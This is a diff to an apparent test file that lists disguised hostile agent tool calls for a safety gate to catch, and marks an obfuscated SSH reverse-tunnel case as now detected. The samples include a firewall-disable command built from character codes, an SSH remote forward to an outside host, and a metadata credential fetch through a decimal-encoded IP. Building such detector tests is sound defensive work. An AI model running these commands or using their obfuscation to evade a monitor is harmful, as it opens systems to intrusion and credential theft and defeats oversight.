@@ -42,10 +42,7 @@ DISGUISED = [
      "ra-ev-cloud-compute-launch"),
     ([call("python", {"code": "import os\nos.system(''.join(chr(c) for c in [117, 102, 119, 32]) + 'disable')"})],
      "ra-ev-security-disable"),
-    pytest.param([bash("a=ss; b=h; $a$b -fNR 9000:localhost:22 op@203.0.113.4")], "tun-ev-ssh-forward",
-                 marks=pytest.mark.xfail(strict=True, reason="events/gate.yaml has no trigger for a variable in "
-                                         "command position ($a$b), so the text is not parsed; remove this mark "
-                                         "when the gate parses it")),
+    ([bash("a=ss; b=h; $a$b -fNR 9000:localhost:22 op@203.0.113.4")], "tun-ev-ssh-forward"),
     ([call("python", {"code": "import requests\nrequests.get('http://2852039166/latest/meta-data/iam/security-credentials/web')"})],
      "ra-ev-metadata-credentials"),
     ([call("python", {"code": "import requests\nrequests.get('http://2852039166/latest/meta-data/iam/security-credentials/web')"})],
